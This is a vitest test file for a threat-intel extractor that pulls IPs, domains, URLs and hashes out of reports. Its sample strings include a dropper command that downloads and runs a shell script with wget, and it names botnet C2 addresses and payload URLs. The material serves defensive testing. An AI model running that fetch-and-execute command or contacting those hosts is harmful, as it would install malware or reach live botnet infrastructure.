import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { extractIndicators } from '../../src/intel/extract.js';
import { defang } from '../../src/intel/refang.js';

// The seeds live beside the repository (../shared/seeds); skip, don't fail, where they are absent.
const seedsDir = new URL('../../../shared/seeds/', import.meta.url);
const haveSeeds = existsSync(seedsDir);
const seed = (name: string) => readFileSync(new URL(name, seedsDir), 'utf8');
const brief = (text: string) =>
  extractIndicators(text, 't').map((i) => [i.type, i.value, i.port].filter((x) => x !== undefined).join(' '));

describe.skipIf(!haveSeeds)('extractIndicators on the seeds', () => {
  it('seed 003: exactly the six distinct SHA256 hashes (one is listed twice), with the introducing sentence', () => {
    const found = extractIndicators(seed('003_38f23edca79ea893.txt'), 'seed003', 'seeds/003.txt');
    expect(found.map((i) => `${i.type} ${i.value} ${i.origin}`)).toEqual([
      'sha256 7e84a8a74e93e567a6e7f781ab5764fe3bbc12c868b89e5c5c79924d5d5742e2 seeds/003.txt:9',
      'sha256 1fce697993690d41f75e0e6ed522df49d73a038f7e02733ec239c835579c40bf seeds/003.txt:11',
      'sha256 828984d1112f52f7f24bbc2b15d0f4cf2646cd03809e648f0d3121a1bdb83464 seeds/003.txt:12',
      'sha256 c597d3b8f61a5b49049006aff5abfe30af06d8979aaaf65454ad2691ef03943b seeds/003.txt:13',
      'sha256 046659391b36a022a48e37bd80ce2c3bd120e3fe786c204128ba32aa8d03a182 seeds/003.txt:14',
      'sha256 5d4e46b3510679dc49ce295b7f448cd69e952d80ba1450f6800be074992b07cc seeds/003.txt:15',
    ]);
    expect(found[0]!.source).toBe('seed003');
    expect(found[0]!.context).toMatch(
      /^It also provided additional information .* hashes of the binary files used in the attacks:$/,
    );
  });

  it('seed 002: the defanged ip:port and the domain; the RFC 1918 addresses in its exclusion notes are not IOCs', () => {
    const found = extractIndicators(seed('002_3ac1d089a82c337e.txt'), 'seed002');
    expect(found.map((i) => [i.type, i.value, i.port])).toEqual([
      ['ip:port', '176.65.139.7', 3778],
      ['domain', 'tvt.miraibotnet.su', undefined],
    ]);
    expect(found[0]!.context).toBe('| ip:port | 176.65.139.7:3778 | botnet_cc | 2026-05-20 | 80% |');
  });
});

describe('extractIndicators rules', () => {
  it('rejects file names whose extension is also a TLD unless defanged, and non-TLD file names always', () => {
    const text =
      'The dropper runs wget http://185.244.25.10/bins/x.sh; then ./x.sh fetches payload.bin, index.php and ' +
      'busybox.arm7, loads libc.so.6, reads README.md and sets process.name. Its C2 is cnc[.]sh, not x.sh.';
    expect(brief(text)).toEqual(['url http://185.244.25.10/bins/x.sh', 'domain cnc.sh']);
  });

  it('rejects version numbers, CIDR prefixes, private addresses, times and MAC addresses', () => {
    expect(
      brief('Firmware 1.2.3.4.5 and v2.10.3.1, prefix 185.244.0.0/16, LAN 192.168.1.100, 10.0.0.5:23'),
    ).toEqual([]);
    expect(
      brief('At 12:30:45 the box 00:11:22:33:44:55 rebooted; loopback ::1 and fe80::1 ignored.'),
    ).toEqual([]);
  });

  it('keeps the port of ip:port and folds a bare mention of the same IP into it', () => {
    expect(brief('C2 at 176[.]65[.]139[.]7:3778. Block 176.65.139.7 and 45.9.20.1.')).toEqual([
      'ip:port 176.65.139.7 3778',
      'ipv4 45.9.20.1',
    ]);
    expect(brief('Port out of range 45.9.20.1:70000 is just the IP.')).toEqual(['ipv4 45.9.20.1']);
  });

  it('takes global unicast IPv6 and normalises it', () => {
    expect(
      brief('Seen from 2A03:2880:F003:0C07:FACE:B00C:0000:0002 and 2001:db8::1 (documentation).'),
    ).toEqual(['ipv6 2a03:2880:f003:c07:face:b00c:0:2']);
  });

  it('does not turn e-mail addresses (report contacts) into domains', () => {
    expect(
      brief('Questions to threatfox[at]abuse[.]ch or soc@telekom.de; payload from evil-cdn.com.'),
    ).toEqual(['domain evil-cdn.com']);
  });

  it('extracts URLs without trailing punctuation and does not split them into domains or IPs', () => {
    expect(
      brief('Payload at (hxxp://tvt[.]miraibotnet[.]su/bins/mirai.mips). Also fxp://45.9.20.1/x.'),
    ).toEqual(['url http://tvt.miraibotnet.su/bins/mirai.mips', 'url ftp://45.9.20.1/x']);
  });

  it('takes md5, sha1 and sha256 of exact lengths only, lowercased', () => {
    const md5 = 'A41D8CD98F00B204E9800998ECF8427E';
    const sha1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
    const text = `md5 ${md5}, sha1 ${sha1}, 33 hex ${'a'.repeat(32)}b, zeros ${'0'.repeat(64)}, id ${sha1}x`;
    expect(brief(text)).toEqual([`md5 ${md5.toLowerCase()}`, `sha1 ${sha1}`]);
  });

  it('does not mistake a missing space after a full stop for a domain', () => {
    expect(brief('The attack largely failed.It did cause problems.')).toEqual([]);
  });

  it('finds refanged versions of generated public IPs and domains', () => {
    fc.assert(
      fc.property(fc.ipV4(), (ip) => {
        const found = brief(`C2 ${defang(ip)} seen.`);
        const first = Number(ip.split('.')[0]);
        // Only public unicast addresses are indicators; the rest must yield nothing.
        return (
          found.length === 0 ||
          (found.length === 1 && found[0] === `ipv4 ${ip}` && first !== 10 && first !== 127)
        );
      }),
      { numRuns: 300 },
    );
    const label = fc.stringMatching(/^[a-z][a-z0-9]{1,8}$/);
    fc.assert(
      fc.property(label, label, fc.constantFrom('com', 'su', 'sh', 'top'), (a, b, tld) => {
        const name = `${a}.${b}.${tld}`;
        return JSON.stringify(brief(`Resolve ${defang(name)} now.`)) === JSON.stringify([`domain ${name}`]);
      }),
      { numRuns: 300 },
    );
  });

  it('never throws on arbitrary text', () => {
    const unit = fc.constantFrom(
      '1',
      '2',
      '5',
      '.',
      ':',
      '[',
      ']',
      '(',
      ')',
      'a',
      'f',
      'x',
      'com',
      'sh',
      '/',
      '@',
      ' ',
      '\n',
      'hxxp',
      '://',
      '-',
      'é',
    );
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit })), (s) => {
        extractIndicators(s, 'fuzz');
        return true;
      }),
      { numRuns: 1000 },
    );
  });
});
